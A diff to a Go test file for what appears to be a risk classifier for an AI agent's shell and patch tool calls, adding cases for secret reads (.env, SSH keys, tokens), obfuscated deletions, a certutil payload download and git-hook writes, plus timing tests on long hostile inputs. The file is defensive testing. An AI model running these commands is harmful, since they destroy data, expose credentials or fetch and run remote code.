@@ -163,7 +163,8 @@ func TestInputs(t *testing.T) {
 		{"powershell", `{"command":"Stop-Computer"}`, "high", "raises", ""}, {"pwsh", `{"command":"New-LocalUser x"}`, "high", "raises", ""},
 		{"pwsh", `{"command":"Register-ScheduledTask x"}`, "high", "raises", ""}, {"cmd", `{"command":"r^d /s /q x"}`, "high", "destroys", ""},
 		{"pwsh", "{\"command\":\"R`emove-Item x\"}", "high", "destroys", ""}, {"pwsh", `{"command":"gc .env"}`, "high", "secret", ""},
-		{"pwsh", `{"command":"Get-Content -Path:.env.local"}`, "high", "secret", ""}, {"pwsh", `{"command":"gc a.txt"}`, "medium", "not_read", ""},
+		{"pwsh", `{"command":"Get-Content -Path:.env.local"}`, "high", "secret", ""},
+		{"pwsh", `{"command":"gc a.txt"}`, "medium", "not_read", ""},
 		{"cmd", `{"command":"certutil -urlcache -f https://x.example/a.exe a.exe"}`, "high", "raises", ""},
 		{"pwsh", `{"command":"Set-Content .git\\hooks\\pre-commit x"}`, "high", "steers", ""},
 		{"pwsh", `{"command":"gc .github\\workflows\\ci.yml"}`, "medium", "not_read", ""},
@@ -271,7 +272,9 @@ func FuzzLine(f *testing.F) {
 func TestHostileLines(t *testing.T) {
 	for _, unit := range []string{"a ", "a;", "rm -rf .env;", "cat ~/.ssh/id_rsa;", "a=b@c:d,", "http://a@b.c/ ", "$(ls);", "sk-", "eyJ.", "é",
 		"/../", ".env*",
-		"a|", "'a' ", "x://a:b@", "-----BEGIN ", "find . -exec rm {} + ;", "sudo ", "python -c 'rm -rf a';"} {
+		"a|", "'a' ", "x://a:b@", "-----BEGIN ", "find . -exec rm {} + ;", "sudo ", "python -c 'rm -rf a';", "x=$TOKEN;",
+		"echo ${TOKEN ", "cat <<E\n$TOKEN\nE\n", "for x in $TOKEN;", "[[ $TOKEN =~ $_", "read a <<< $TOKEN;", "patch <<E\n+++ .env\nE\n",
+		"aws_secret_access_key="} {
 		text := strings.Repeat(unit, shell.MaxText/len(unit))
 		input := inputOf(text)
 		start := cputime.Now()
@@ -280,6 +283,18 @@ func TestHostileLines(t *testing.T) {
 		t.Logf("%q: %v", unit, took)
 		if took.Milliseconds() > 2000 {
 			t.Errorf("%q: %v", unit, took)
+		}
+	}
+}
+
+// TestHostilePatches: much of what a patch may have, which names one file that steers others at its end.
+func TestHostilePatches(t *testing.T) {
+	for unit, most := range map[string]int{"+++ a\n": 100_000, "--- .env\n+++ .env\n": 50_000, "*** Add File: b\n+x\n": 5_000, "\n": 1 << 20} {
+		input, _ := json.Marshal(map[string]string{"patch": "*** Begin Patch\n" + strings.Repeat(unit, most) + "*** Add File: .git/hooks/a\n"})
+		start := cputime.Now()
+		level, _ := risk.Judge(risk.Call{Tool: "apply_patch", Cwd: "/w", Input: input})
+		if took := cputime.Since(start); level != permission.RiskHigh || took.Milliseconds() > 2000 {
+			t.Errorf("%q: %s, %v", unit, level, took)
 		}
 	}
 }
